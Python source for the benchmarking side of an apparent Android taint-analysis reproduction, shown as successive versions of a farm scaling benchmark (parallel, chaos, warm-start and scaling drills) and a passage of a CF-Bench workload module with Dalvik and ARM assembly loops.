Runs the built-in corpus three times over the same result store:

1. **serial** — ``workers=1``, cold cache: the baseline wall clock;
2. **parallel** — ``workers=N``, cold cache (fresh store): the
   multiprocess wall clock;
3. **resumed** — ``workers=N`` again over the parallel run's store:
   every digest hits, measuring the near-free re-run property.

Besides the timings it records the machine's CPU count (a 4-worker farm
cannot beat serial on a single-core host — the recorded ``cpus`` field
keeps the numbers honest) and a per-app parity check: the serial and
parallel runs must report identical per-job leak/sink counts, since the
merge is pure aggregation.
"""

from __future__ import annotations

import json
import os
import tempfile
from typing import Dict

from repro.farm.manifest import Manifest
from repro.farm.merge import merge_results, sink_counts
from repro.farm.scheduler import FarmScheduler
from repro.farm.store import ResultStore

BENCH_SCHEMA_VERSION = 1


def _parity_row(result: Dict) -> Dict:
    return {"status": result["status"],
            "leaks": len(result.get("leaks", [])),
            "sinks": sink_counts(result.get("metrics", {}))}


class FarmBench:
    """Measures farm wall clocks and validates serial/parallel parity."""

    def __init__(self, workers: int = 4, manifest: Manifest = None) -> None:
        self.workers = max(2, workers)
        self.manifest = manifest if manifest is not None \
            else Manifest.builtin()

    def _measure(self, workers: int, store: ResultStore,
                 resume: bool) -> Dict:
        scheduler = FarmScheduler(self.manifest, workers=workers,
                                  store=store, resume=resume)
        results = scheduler.run()
        report = merge_results(results, workers=workers,
                               wall_seconds=scheduler.wall_seconds,
                               cached_jobs=scheduler.cached_jobs)
        return {
            "workers": workers,
            "wall_seconds": scheduler.wall_seconds,
            "jobs": len(results),
            "cached_jobs": scheduler.cached_jobs,
            "outcomes": report.outcomes,
            "results": results,
        }

    def run(self) -> Dict:
        with tempfile.TemporaryDirectory() as scratch:
            serial = self._measure(1, ResultStore(
                os.path.join(scratch, "serial")), resume=False)
            parallel_store = ResultStore(os.path.join(scratch, "parallel"))
            parallel = self._measure(self.workers, parallel_store,
                                     resume=False)
            resumed = self._measure(self.workers, parallel_store,
                                    resume=True)

        apps = {}
        identical = True
        for row_s, row_p in zip(serial["results"], parallel["results"]):
            job_id = row_s["job"]["id"]
            serial_row = _parity_row(row_s)
            parallel_row = _parity_row(row_p)
            match = serial_row == parallel_row
            identical = identical and match
            apps[job_id] = {"serial": serial_row, "parallel": parallel_row,
                            "identical": match}

        def strip(run: Dict) -> Dict:
            return {key: value for key, value in run.items()
                    if key != "results"}

        serial_wall = serial["wall_seconds"]
        return {
            "schema": BENCH_SCHEMA_VERSION,
            "cpus": os.cpu_count() or 1,
            "runs": {"serial": strip(serial), "parallel": strip(parallel),
                     "resumed": strip(resumed)},
            "speedup": (serial_wall / parallel["wall_seconds"]
                        if parallel["wall_seconds"] else 0.0),
            "resume_speedup": (serial_wall / resumed["wall_seconds"]
                               if resumed["wall_seconds"] else 0.0),
            "parity": {"identical": identical, "apps": apps},
        }


def write_results(results: Dict, path: str) -> None:
    with open(path, "w") as handle:
        json.dump(results, handle, indent=2, sort_keys=True)
        handle.write("\n")


def load_results(path: str) -> Dict:
    with open(path) as handle:
        return json.load(handle)
