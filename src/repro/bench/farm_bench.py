"""The farm scaling benchmark: serial vs parallel vs resumed.

Runs the built-in corpus three times over the same result store:

1. **serial** — ``workers=1``, cold cache: the baseline wall clock;
2. **parallel** — ``workers=N``, cold cache (fresh store): the
   multiprocess wall clock;
3. **resumed** — ``workers=N`` again over the parallel run's store:
   every digest hits, measuring the near-free re-run property.

Besides the timings it records the machine's CPU count (a 4-worker farm
cannot beat serial on a single-core host — the recorded ``cpus`` field
keeps the numbers honest) and a per-app parity check: the serial and
parallel runs must report identical per-job leak/sink counts, since the
merge is pure aggregation.

Since schema 2 the bench also runs the **chaos recovery drill**
(:func:`repro.farm.chaos.run_chaos_harness`) with a fixed seed over a
scenario slice of the manifest and records the verdict: the recovery
invariants (no lost jobs, no duplicates, store verifies, poison
quarantined exactly once, parity with the clean serial baseline) become
regression-checkable numbers alongside the speedups.
"""

from __future__ import annotations

import json
import os
import tempfile
from typing import Dict, Optional

from repro.farm.manifest import Manifest
from repro.farm.merge import merge_results, sink_counts
from repro.farm.scheduler import FarmScheduler
from repro.farm.store import ResultStore

BENCH_SCHEMA_VERSION = 2

# Fixed drill seed: the injected fault schedule is part of the recorded
# result, so two bench runs disagree only if recovery itself changed.
DEFAULT_CHAOS_SEED = 20260808
CHAOS_SLICE = 6         # scenario jobs in the drill manifest (keeps the
                        # subprocess kill/resume cycle a few seconds)


def _parity_row(result: Dict) -> Dict:
    return {"status": result["status"],
            "leaks": len(result.get("leaks", [])),
            "sinks": sink_counts(result.get("metrics", {}))}


class FarmBench:
    """Measures farm wall clocks and validates serial/parallel parity."""

    def __init__(self, workers: int = 4, manifest: Manifest = None,
                 chaos_seed: Optional[int] = DEFAULT_CHAOS_SEED) -> None:
        self.workers = max(2, workers)
        self.manifest = manifest if manifest is not None \
            else Manifest.builtin()
        self.chaos_seed = chaos_seed    # None skips the recovery drill

    def _measure(self, workers: int, store: ResultStore,
                 resume: bool) -> Dict:
        scheduler = FarmScheduler(self.manifest, workers=workers,
                                  store=store, resume=resume)
        results = scheduler.run()
        report = merge_results(results, workers=workers,
                               wall_seconds=scheduler.wall_seconds,
                               cached_jobs=scheduler.cached_jobs)
        return {
            "workers": workers,
            "wall_seconds": scheduler.wall_seconds,
            "jobs": len(results),
            "cached_jobs": scheduler.cached_jobs,
            "outcomes": report.outcomes,
            "results": results,
        }

    def run(self) -> Dict:
        with tempfile.TemporaryDirectory() as scratch:
            serial = self._measure(1, ResultStore(
                os.path.join(scratch, "serial")), resume=False)
            parallel_store = ResultStore(os.path.join(scratch, "parallel"))
            parallel = self._measure(self.workers, parallel_store,
                                     resume=False)
            resumed = self._measure(self.workers, parallel_store,
                                    resume=True)

        apps = {}
        identical = True
        for row_s, row_p in zip(serial["results"], parallel["results"]):
            job_id = row_s["job"]["id"]
            serial_row = _parity_row(row_s)
            parallel_row = _parity_row(row_p)
            match = serial_row == parallel_row
            identical = identical and match
            apps[job_id] = {"serial": serial_row, "parallel": parallel_row,
                            "identical": match}

        def strip(run: Dict) -> Dict:
            return {key: value for key, value in run.items()
                    if key != "results"}

        serial_wall = serial["wall_seconds"]
        return {
            "schema": BENCH_SCHEMA_VERSION,
            "cpus": os.cpu_count() or 1,
            "runs": {"serial": strip(serial), "parallel": strip(parallel),
                     "resumed": strip(resumed)},
            "speedup": (serial_wall / parallel["wall_seconds"]
                        if parallel["wall_seconds"] else 0.0),
            "resume_speedup": (serial_wall / resumed["wall_seconds"]
                               if resumed["wall_seconds"] else 0.0),
            "parity": {"identical": identical, "apps": apps},
            "chaos": self._chaos_drill(),
        }

    def _chaos_drill(self) -> Optional[Dict]:
        """Kill/tear/resume over a scenario slice; record the verdict."""
        if self.chaos_seed is None:
            return None
        from repro.farm.chaos import run_chaos_harness

        jobs = [spec for spec in self.manifest
                if spec.kind == "scenario"][:CHAOS_SLICE]
        if len(jobs) < 2:   # need a poison target *and* a survivor
            return None
        drill = Manifest(jobs=jobs)
        with tempfile.TemporaryDirectory() as out:
            report = run_chaos_harness(drill, seed=self.chaos_seed,
                                       out_dir=out, workers=2)
        stats = report.stats
        return {
            "seed": self.chaos_seed,
            "jobs": len(drill),
            "recovered": report.ok,
            "invariants": dict(report.invariants),
            "failures": list(report.failures),
            "injected": stats.get("chaos", {}),
            "health": stats.get("health", {}),
            "outcomes": stats.get("outcomes", {}),
            "resumed_from_cache": stats.get("resumed_from_cache", 0),
        }


def write_results(results: Dict, path: str) -> None:
    with open(path, "w") as handle:
        json.dump(results, handle, indent=2, sort_keys=True)
        handle.write("\n")


def load_results(path: str) -> Dict:
    with open(path) as handle:
        return json.load(handle)
