"""The farm scaling benchmark: serial vs parallel vs resumed.

Runs the built-in corpus three times over the same result store:

1. **serial** — ``workers=1``, cold cache: the baseline wall clock;
2. **parallel** — ``workers=N``, cold cache (fresh store): the
   multiprocess wall clock;
3. **resumed** — ``workers=N`` again over the parallel run's store:
   every digest hits, measuring the near-free re-run property.

Besides the timings it records the machine's CPU count (a 4-worker farm
cannot beat serial on a single-core host — the recorded ``cpus`` field
keeps the numbers honest) and a per-app parity check: the serial and
parallel runs must report identical per-job leak/sink counts, since the
merge is pure aggregation.

Since schema 2 the bench also runs the **chaos recovery drill**
(:func:`repro.farm.chaos.run_chaos_harness`) with a fixed seed over a
scenario slice of the manifest and records the verdict: the recovery
invariants (no lost jobs, no duplicates, store verifies, poison
quarantined exactly once, parity with the clean serial baseline) become
regression-checkable numbers alongside the speedups.

Schema 3 adds the **paper-scale scaling curve** (:class:`ScalingBench`):
a streamed synthetic corpus — 10k chunk-classification jobs covering
100k records by default — run through the streaming farm at 1/2/4/8
workers, recording per-count wall clock, jobs/sec, and speedup vs the
serial baseline, plus the stratum-marginals check against the
apportionment plan and the peak RSS that certifies the bounded-memory
property.  On a single-core host the parallel≥serial verdict is
recorded as ``null`` with a skip notice instead of a dishonest number.

Schema 4 adds the **warm-vs-cold drill** (:class:`WarmBench`): a
repeated-library manifest (every scenario, twice) executed three ways —
cold (a full platform per job), warm (one booted template reset per job
via ``Platform.reset_for_job()``), and rehydrated (cold platforms over a
shared persistent translation cache).  Per job it records boot wall
clock plus in-run translation seconds; the gate requires warm boot +
translate per job to beat cold by at least
:data:`WARM_SPEEDUP_GATE` (2x), with taint parity identical across all
three modes for every scenario.
"""

from __future__ import annotations

import json
import os
import tempfile
import time
from typing import Dict, List, Optional, Sequence

from repro.farm.manifest import Manifest
from repro.farm.merge import merge_results, sink_counts
from repro.farm.scheduler import FarmScheduler
from repro.farm.store import ResultStore

BENCH_SCHEMA_VERSION = 4

# Fixed drill seed: the injected fault schedule is part of the recorded
# result, so two bench runs disagree only if recovery itself changed.
DEFAULT_CHAOS_SEED = 20260808
CHAOS_SLICE = 6         # scenario jobs in the drill manifest (keeps the
                        # subprocess kill/resume cycle a few seconds)


def _parity_row(result: Dict) -> Dict:
    return {"status": result["status"],
            "leaks": len(result.get("leaks", [])),
            "sinks": sink_counts(result.get("metrics", {}))}


class FarmBench:
    """Measures farm wall clocks and validates serial/parallel parity."""

    def __init__(self, workers: int = 4, manifest: Manifest = None,
                 chaos_seed: Optional[int] = DEFAULT_CHAOS_SEED) -> None:
        self.workers = max(2, workers)
        self.manifest = manifest if manifest is not None \
            else Manifest.builtin()
        self.chaos_seed = chaos_seed    # None skips the recovery drill

    def _measure(self, workers: int, store: ResultStore,
                 resume: bool) -> Dict:
        scheduler = FarmScheduler(self.manifest, workers=workers,
                                  store=store, resume=resume)
        results = scheduler.run()
        report = merge_results(results, workers=workers,
                               wall_seconds=scheduler.wall_seconds,
                               cached_jobs=scheduler.cached_jobs)
        return {
            "workers": workers,
            "wall_seconds": scheduler.wall_seconds,
            "jobs": len(results),
            "cached_jobs": scheduler.cached_jobs,
            "outcomes": report.outcomes,
            "results": results,
        }

    def run(self) -> Dict:
        with tempfile.TemporaryDirectory() as scratch:
            serial = self._measure(1, ResultStore(
                os.path.join(scratch, "serial")), resume=False)
            parallel_store = ResultStore(os.path.join(scratch, "parallel"))
            parallel = self._measure(self.workers, parallel_store,
                                     resume=False)
            resumed = self._measure(self.workers, parallel_store,
                                    resume=True)

        apps = {}
        identical = True
        for row_s, row_p in zip(serial["results"], parallel["results"]):
            job_id = row_s["job"]["id"]
            serial_row = _parity_row(row_s)
            parallel_row = _parity_row(row_p)
            match = serial_row == parallel_row
            identical = identical and match
            apps[job_id] = {"serial": serial_row, "parallel": parallel_row,
                            "identical": match}

        def strip(run: Dict) -> Dict:
            return {key: value for key, value in run.items()
                    if key != "results"}

        serial_wall = serial["wall_seconds"]
        return {
            "schema": BENCH_SCHEMA_VERSION,
            "cpus": os.cpu_count() or 1,
            "runs": {"serial": strip(serial), "parallel": strip(parallel),
                     "resumed": strip(resumed)},
            "speedup": (serial_wall / parallel["wall_seconds"]
                        if parallel["wall_seconds"] else 0.0),
            "resume_speedup": (serial_wall / resumed["wall_seconds"]
                               if resumed["wall_seconds"] else 0.0),
            "parity": {"identical": identical, "apps": apps},
            "chaos": self._chaos_drill(),
            "warm": WarmBench().run(),
        }

    def _chaos_drill(self) -> Optional[Dict]:
        """Kill/tear/resume over a scenario slice; record the verdict."""
        if self.chaos_seed is None:
            return None
        from repro.farm.chaos import run_chaos_harness

        jobs = [spec for spec in self.manifest
                if spec.kind == "scenario"][:CHAOS_SLICE]
        if len(jobs) < 2:   # need a poison target *and* a survivor
            return None
        drill = Manifest(jobs=jobs)
        with tempfile.TemporaryDirectory() as out:
            report = run_chaos_harness(drill, seed=self.chaos_seed,
                                       out_dir=out, workers=2)
        stats = report.stats
        return {
            "seed": self.chaos_seed,
            "jobs": len(drill),
            "recovered": report.ok,
            "invariants": dict(report.invariants),
            "failures": list(report.failures),
            "injected": stats.get("chaos", {}),
            "health": stats.get("health", {}),
            "outcomes": stats.get("outcomes", {}),
            "resumed_from_cache": stats.get("resumed_from_cache", 0),
        }


# Warm-drill defaults: every scenario twice makes a repeated-library
# manifest — exactly the workload the warm fork and persistent cache
# exist for — and 2x is the gate the per-job boot+translate cost must
# clear against the cold baseline.
WARM_REPEATS = 2
WARM_SPEEDUP_GATE = 2.0


class WarmBench:
    """Cold boot vs warm template reset vs persistent-cache rehydration.

    Every mode runs the identical job list (each scenario,
    ``repeats`` times) on the same analysis config and must produce
    engine-identical leak rows, work counters, and detection verdicts;
    the drill then compares what each mode paid *per job* in platform
    boot wall clock plus in-run translation seconds.
    """

    def __init__(self, repeats: int = WARM_REPEATS,
                 config: str = "ndroid") -> None:
        self.repeats = max(1, repeats)
        self.config = config

    @staticmethod
    def _observe(platform, scenario) -> Dict:
        records = platform.leaks.records
        if scenario.expected_taint:
            detected = any(record.taint & scenario.expected_taint
                           for record in records)
        else:
            detected = bool(records)
        return {
            "leaks": [[record.detector, record.sink, record.taint,
                       record.destination, record.payload.hex(),
                       record.context] for record in records],
            "counters": platform.work_counters(),
            "detected": detected,
        }

    def _drive(self, boot) -> Dict:
        """Run the job list; ``boot`` yields a (platform, seconds) pair."""
        from repro.apps import ALL_SCENARIOS
        from repro.apps.base import run_scenario

        names = sorted(ALL_SCENARIOS)
        boot_seconds = 0.0
        translate_seconds = 0.0
        samples: List[float] = []
        observations: Dict[str, Dict] = {}
        consistent = True
        for __ in range(self.repeats):
            for name in names:
                platform, booted = boot(name)
                boot_seconds += booted
                scenario = ALL_SCENARIOS[name]()
                run_scenario(scenario, platform)
                translate_seconds += platform.emu.translate_seconds
                samples.append(booted + platform.emu.translate_seconds)
                observed = self._observe(platform, scenario)
                previous = observations.setdefault(name, observed)
                consistent = consistent and previous == observed
        jobs = len(names) * self.repeats
        samples.sort()
        return {
            "jobs": jobs,
            "boot_seconds": round(boot_seconds, 4),
            "translate_seconds": round(translate_seconds, 4),
            "per_job_seconds": round(
                (boot_seconds + translate_seconds) / jobs, 6),
            # The gate statistic: one GC pause or scheduler hiccup in a
            # millisecond-scale job skews a mean, not a median.
            "median_job_seconds": round(
                samples[len(samples) // 2], 6),
            "observations": observations,
            "consistent_across_repeats": consistent,
        }

    def _cold(self) -> Dict:
        from repro.bench.harness import make_platform

        def boot(name):
            started = time.perf_counter()
            platform = make_platform(self.config)
            return platform, time.perf_counter() - started

        return self._drive(boot)

    def _warm(self) -> Dict:
        from repro.bench.harness import make_platform

        template = make_platform(self.config)
        template.prepare_template()

        def boot(name):
            started = time.perf_counter()
            template.reset_for_job()
            return template, time.perf_counter() - started

        return self._drive(boot)

    def _rehydrated(self, cache_dir: str) -> Dict:
        from repro.apps import ALL_SCENARIOS
        from repro.apps.base import run_scenario
        from repro.bench.harness import make_platform
        from repro.emulator.persist import TranslationPersistence

        # Seed pass (uncharged): populate the cache once, cold.
        for name in sorted(ALL_SCENARIOS):
            platform = make_platform(self.config)
            platform.attach_persistence(TranslationPersistence(cache_dir))
            run_scenario(ALL_SCENARIOS[name](), platform)
            platform.persist_translations()

        def boot(name):
            started = time.perf_counter()
            platform = make_platform(self.config)
            platform.attach_persistence(TranslationPersistence(cache_dir))
            return platform, time.perf_counter() - started

        return self._drive(boot)

    def run(self) -> Dict:
        cold = self._cold()
        warm = self._warm()
        with tempfile.TemporaryDirectory() as cache_dir:
            rehydrated = self._rehydrated(cache_dir)
            persistence_probe = self._probe_persist_hits(cache_dir)

        parity = {}
        identical = True
        for name, observed in cold["observations"].items():
            match = (observed == warm["observations"][name]
                     and observed == rehydrated["observations"][name])
            parity[name] = match
            identical = identical and match
        identical = (identical
                     and cold["consistent_across_repeats"]
                     and warm["consistent_across_repeats"]
                     and rehydrated["consistent_across_repeats"])

        def strip(mode: Dict) -> Dict:
            return {key: value for key, value in mode.items()
                    if key != "observations"}

        speedup = (cold["median_job_seconds"] / warm["median_job_seconds"]
                   if warm["median_job_seconds"] else 0.0)
        rehydrated_speedup = (
            cold["median_job_seconds"] / rehydrated["median_job_seconds"]
            if rehydrated["median_job_seconds"] else 0.0)
        return {
            "repeats": self.repeats,
            "config": self.config,
            "cold": strip(cold),
            "warm": strip(warm),
            "rehydrated": strip(rehydrated),
            "persist_hits": persistence_probe,
            "speedup_warm_vs_cold": round(speedup, 2),
            "speedup_rehydrated_vs_cold": round(rehydrated_speedup, 2),
            "gate": {
                "threshold": WARM_SPEEDUP_GATE,
                "passed": speedup >= WARM_SPEEDUP_GATE,
            },
            "parity": {"identical": identical, "scenarios": parity},
        }

    def _probe_persist_hits(self, cache_dir: str) -> Dict[str, int]:
        """One extra rehydrated job proves the cache actually hits."""
        from repro.apps import ALL_SCENARIOS
        from repro.apps.base import run_scenario
        from repro.bench.harness import make_platform
        from repro.emulator.persist import TranslationPersistence

        name = sorted(ALL_SCENARIOS)[0]
        platform = make_platform(self.config)
        persistence = TranslationPersistence(cache_dir)
        platform.attach_persistence(persistence)
        run_scenario(ALL_SCENARIOS[name](), platform)
        return {layer: counters["hits"]
                for layer, counters in persistence.counters.items()}


# Scaling-curve defaults: 10k jobs x 10 records = a 100k-record streamed
# corpus, far past anything a materialized pipeline should attempt.
SCALING_WORKER_COUNTS = (1, 2, 4, 8)
DEFAULT_SCALING_JOBS = 10_000
SCALING_CHUNK = 10
SCALING_SEED = 2014
SCALING_SHARD_SIZE = 256

# Stratum marginal name -> the worker counter that measures it.
_MARGINAL_METRICS = {
    "total": "corpus.records",
    "type1": "corpus.type1",
    "type1_without_libs": "corpus.type1_without_libs",
    "type1_admob": "corpus.type1_admob",
    "type2": "corpus.type2",
    "type2_loadable": "corpus.type2_loadable",
    "type3": "corpus.type3",
    "type3_games": "corpus.type3_games",
    "plain": "corpus.plain",
}


class ScalingBench:
    """The 1/2/4/8-worker scaling curve over a streamed synthetic corpus.

    One sharded manifest is written once, then run cold at each worker
    count through the streaming farm.  Every run classifies the same
    records, so besides the timings the bench checks two invariants:

    * **parity** — each worker count merges to the identical corpus
      counters (the stream split can't change what was counted);
    * **marginals** — the merged counters equal the apportionment
      plan's stratum sizes exactly (the corpus the farm analysed *is*
      the calibrated corpus).
    """

    def __init__(self, jobs: int = DEFAULT_SCALING_JOBS,
                 chunk: int = SCALING_CHUNK, seed: int = SCALING_SEED,
                 worker_counts: Sequence[int] = SCALING_WORKER_COUNTS,
                 shard_size: int = SCALING_SHARD_SIZE) -> None:
        from repro.corpus.generator import PAPER_PARAMETERS

        self.jobs = max(1, jobs)
        self.chunk = max(1, chunk)
        self.seed = seed
        self.worker_counts = tuple(worker_counts)
        if not self.worker_counts or self.worker_counts[0] != 1:
            raise ValueError("worker_counts must start with the serial "
                             "baseline (1)")
        self.shard_size = max(1, shard_size)
        self.records = self.jobs * self.chunk
        self.scale = self.records / PAPER_PARAMETERS.total_apps

    def run(self) -> Dict:
        import resource

        from repro.corpus.generator import CorpusGenerator
        from repro.farm.manifest import ShardedManifest, iter_corpus_jobs
        from repro.farm.scheduler import StreamFarm

        plan = CorpusGenerator(seed=self.seed, scale=self.scale).plan
        curve = []
        serial_wall = 0.0
        reference: Optional[Dict] = None
        with tempfile.TemporaryDirectory() as scratch:
            manifest = ShardedManifest.write(
                os.path.join(scratch, "manifest"),
                iter_corpus_jobs(scale=self.scale, seed=self.seed,
                                 chunk=self.chunk),
                shard_size=self.shard_size)
            for workers in self.worker_counts:
                report = StreamFarm(manifest, workers=workers).run()
                wall = report.wall_seconds
                if workers == 1:
                    serial_wall = wall
                corpus_metrics = {
                    name: value
                    for name, value in report.merged_metrics.items()
                    if name.startswith("corpus.")}
                if reference is None:
                    reference = corpus_metrics
                curve.append({
                    "workers": workers,
                    "wall_seconds": round(wall, 4),
                    "jobs": report.jobs,
                    "jobs_per_second": (round(report.jobs / wall, 2)
                                        if wall else 0.0),
                    "speedup_vs_serial": (round(serial_wall / wall, 3)
                                          if wall else 0.0),
                    "outcomes": dict(report.outcomes),
                    "parity_with_serial": corpus_metrics == reference,
                })

        measured = {name: int(reference.get(metric, 0))
                    for name, metric in _MARGINAL_METRICS.items()}
        planned = plan.marginals()
        cpus = os.cpu_count() or 1
        multi = [point for point in curve if point["workers"] > 1]
        if cpus <= 1 or not multi:
            verdict = None       # recorded-as-skipped, not as a failure
            notice = (f"single-core host (cpus={cpus}): "
                      "parallel>=serial gate skipped")
        else:
            best = min(point["wall_seconds"] for point in multi)
            verdict = best <= serial_wall
            notice = None
        rss_self = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        rss_children = resource.getrusage(
            resource.RUSAGE_CHILDREN).ru_maxrss
        return {
            "jobs": self.jobs,
            "chunk": self.chunk,
            "records": self.records,
            "scale": round(self.scale, 6),
            "seed": self.seed,
            "shard_size": self.shard_size,
            "curve": curve,
            "parallel_beats_serial": verdict,
            "skip_notice": notice,
            "marginals": {
                "planned": planned,
                "measured": measured,
                "exact": measured == planned,
            },
            "max_rss_kib": {"scheduler": rss_self,
                            "workers": rss_children},
        }


def write_results(results: Dict, path: str) -> None:
    with open(path, "w") as handle:
        json.dump(results, handle, indent=2, sort_keys=True)
        handle.write("\n")


def load_results(path: str) -> Dict:
    with open(path) as handle:
        return json.load(handle)
