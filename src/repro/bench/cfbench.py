"""The CF-Bench workload suite (paper Section VI.E, Fig. 10).

One installable app, ``com.chainfire.cfbench``, with a Java method and/or
a native function per workload class.  Native workloads run as assembled
ARM inside a third-party library (so NDroid's instruction tracer covers
them, exactly as it would the real benchmark's ``libcfbench.so``); Java
workloads run as Dalvik bytecode under the (modified) interpreter.
"""

from __future__ import annotations

import math
import time
from dataclasses import dataclass
from typing import Dict, List, Optional

from repro.dalvik.classes import ClassDef, MethodBuilder
from repro.dalvik.heap import Slot
from repro.dalvik.instructions import Op
from repro.framework.apk import Apk

CLASS_NAME = "Lcom/chainfire/cfbench/Bench;"

# The Fig. 10 workload rows (scores are aggregated separately).
WORKLOADS = (
    "native_mips", "java_mips",
    "native_msflops", "java_msflops",
    "native_mdflops", "java_mdflops",
    "native_mallocs",
    "native_memory_read", "java_memory_read",
    "native_memory_write", "java_memory_write",
    "native_disk_read", "native_disk_write",
)

NATIVE_WORKLOADS = tuple(w for w in WORKLOADS if w.startswith("native"))
JAVA_WORKLOADS = tuple(w for w in WORKLOADS if w.startswith("java"))


@dataclass
class WorkloadResult:
    """Timing of one workload run; ``score`` is iterations/second."""
    name: str
    iterations: int
    elapsed_seconds: float

    @property
    def score(self) -> float:
        """Operations per second (higher is better)."""
        if self.elapsed_seconds <= 0:
            return float("inf")
        return self.iterations / self.elapsed_seconds


def build_cfbench_apk() -> Apk:
    """Assemble the benchmark app (Java bytecode + native library)."""
    bench = ClassDef(CLASS_NAME)

    # ---- native method declarations --------------------------------------
    for name in ("nativeMips", "nativeFlops", "nativeDflops",
                 "nativeMallocs", "nativeMemRead", "nativeMemWrite",
                 "nativeDiskRead", "nativeDiskWrite"):
        bench.add_method(MethodBuilder(CLASS_NAME, name, "II", static=True,
                                       native=True).build())

    # ---- Java workloads ----------------------------------------------------
    def loop_builder(name: str, body) -> None:
        """for (i = 0; i < n; i++) { body }; return checksum."""
        builder = MethodBuilder(CLASS_NAME, name, "II", static=True,
                                registers=10)
        # v0 = acc, v1 = i, v9 = n (in).
        builder.const(0, 0).const(1, 0)
        body(builder, phase="setup")
        builder.label("loop")
        builder.if_cmp(Op.IF_GE, 1, 9, "done")
        body(builder, phase="body")
        builder.add_lit(1, 1, 1)
        builder.goto("loop")
        builder.label("done")
        builder.ret(0)
        bench.add_method(builder.build())

    def mips_body(builder, phase):
        if phase == "body":
            builder.add_lit(0, 0, 3)
            builder.binop(Op.XOR_INT, 0, 0, 1)
            builder.binop(Op.ADD_INT, 0, 0, 1)

    def flops_body(builder, phase):
        if phase == "body":
            builder.invoke_static("Ljava/lang/Math;->sinBits", 0)
            builder.move_result(2)
            builder.binop(Op.ADD_INT, 0, 0, 2)

    def dflops_body(builder, phase):
        if phase == "body":
            builder.invoke_static("Ljava/lang/Math;->powBits", 0, 1)
            builder.move_result(2)
            builder.binop(Op.XOR_INT, 0, 0, 2)

    def mem_read_body(builder, phase):
        if phase == "setup":
            builder.const(3, 64)
            builder.new_array(4, 3, "I")
            builder.const(5, 63)
        if phase == "body":
            builder.binop(Op.AND_INT, 6, 1, 5)
            builder.aget(2, 4, 6)
            builder.binop(Op.ADD_INT, 0, 0, 2)

    def mem_write_body(builder, phase):
        if phase == "setup":
            builder.const(3, 64)
            builder.new_array(4, 3, "I")
            builder.const(5, 63)
        if phase == "body":
            builder.binop(Op.AND_INT, 6, 1, 5)
            builder.aput(1, 4, 6)
            builder.add_lit(0, 0, 1)

    loop_builder("javaMips", mips_body)
    loop_builder("javaFlops", flops_body)
    loop_builder("javaDflops", dflops_body)
    loop_builder("javaMemRead", mem_read_body)
    loop_builder("javaMemWrite", mem_write_body)

    # ---- entry point that loads the native library -------------------------
    main = MethodBuilder(CLASS_NAME, "main", "V", static=True, registers=2)
    main.const_string(0, "libcfbench.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.ret_void()
    bench.add_method(main.build())

    native = _native_library_source()
    return Apk(package="com.chainfire.cfbench", category="Tools",
               classes=[bench], native_libraries={"libcfbench.so": native},
               load_library_calls=["libcfbench.so"])


def _native_library_source() -> str:
    return """
    Java_com_chainfire_cfbench_Bench_nativeMips:   ; (env, jclass, n)
        mov r0, #0
        mov r1, #0
    mips_loop:
        cmp r1, r2
        bge mips_done
        add r0, r0, #3
        eor r0, r0, r1
        add r0, r0, r1
        add r1, r1, #1
        b mips_loop
    mips_done:
        bx lr

    Java_com_chainfire_cfbench_Bench_nativeFlops:  ; soft-float via libm
        push {r4, r5, r6, lr}
        mov r4, r2
        mov r5, #0
        mov r6, #0
    flops_loop:
        cmp r5, r4
        bge flops_done
        mov r0, r6
        ldr ip, =sinf
        blx ip
        add r6, r6, r0
        add r5, r5, #1
        b flops_loop
    flops_done:
        mov r0, r6
        pop {r4, r5, r6, pc}

    Java_com_chainfire_cfbench_Bench_nativeDflops: ; double via libm
        push {r4, r5, r6, lr}
        mov r4, r2
        mov r5, #0
        mov r6, #0
    dflops_loop:
        cmp r5, r4
        bge dflops_done
        mov r0, r6
        mov r1, r5
        ldr ip, =sin
        blx ip
        eor r6, r6, r0
        add r5, r5, #1
        b dflops_loop
    dflops_done:
        mov r0, r6
        pop {r4, r5, r6, pc}

    Java_com_chainfire_cfbench_Bench_nativeMallocs:
        push {r4, r5, r6, lr}
        mov r4, r2
        mov r5, #0
        mov r6, #0
    malloc_loop:
        cmp r5, r4
        bge malloc_done
        mov r0, #64
        ldr ip, =malloc
        blx ip
        add r6, r6, r0
        ldr ip, =free
        blx ip
        add r5, r5, #1
        b malloc_loop
    malloc_done:
        mov r0, r6
        pop {r4, r5, r6, pc}

    Java_com_chainfire_cfbench_Bench_nativeMemRead:
        push {r4, r5, r6, lr}
        mov r4, r2
        mov r5, #0
        mov r6, #0
        ldr r1, =scratch
    read_loop:
        cmp r5, r4
        bge read_done
        and r2, r5, #63
        ldr r3, [r1, r2, lsl #2]
        add r6, r6, r3
        add r5, r5, #1
        b read_loop
    read_done:
        mov r0, r6
        pop {r4, r5, r6, pc}

    Java_com_chainfire_cfbench_Bench_nativeMemWrite:
        push {r4, r5, r6, lr}
        mov r4, r2
        mov r5, #0
        ldr r1, =scratch
    write_loop:
        cmp r5, r4
        bge write_done
        and r2, r5, #63
        str r5, [r1, r2, lsl #2]
        add r5, r5, #1
        b write_loop
    write_done:
        mov r0, r5
        pop {r4, r5, r6, pc}

    Java_com_chainfire_cfbench_Bench_nativeDiskWrite:
        push {r4, r5, r6, lr}
        mov r4, r2
        mov r5, #0
        ; f = fopen("/sdcard/bench.dat", "w")
        ldr r0, =bench_path
        ldr r1, =mode_w
        ldr ip, =fopen
        blx ip
        mov r6, r0
    dwrite_loop:
        cmp r5, r4
        bge dwrite_done
        ldr r0, =scratch
        mov r1, #1
        mov r2, #64
        mov r3, r6
        ldr ip, =fwrite
        blx ip
        add r5, r5, #1
        b dwrite_loop
    dwrite_done:
        mov r0, r6
        ldr ip, =fclose
        blx ip
        mov r0, r5
        pop {r4, r5, r6, pc}

    Java_com_chainfire_cfbench_Bench_nativeDiskRead:
        push {r4, r5, r6, lr}
        mov r4, r2
        mov r5, #0
        ldr r0, =bench_path
        ldr r1, =mode_r
        ldr ip, =fopen
        blx ip
        mov r6, r0
    dread_loop:
        cmp r5, r4
        bge dread_done
        ldr r0, =scratch
        mov r1, #1
        mov r2, #64
        mov r3, r6
        ldr ip, =fread
        blx ip
        add r5, r5, #1
        b dread_loop
    dread_done:
        mov r0, r6
        ldr ip, =fclose
        blx ip
        mov r0, r5
        pop {r4, r5, r6, pc}

    bench_path:
        .asciz "/sdcard/bench.dat"
    mode_w:
        .asciz "w"
    mode_r:
        .asciz "r"
    .align 3
    scratch:
        .space 256
    """


class CFBench:
    """Runs the suite on an already-configured platform."""

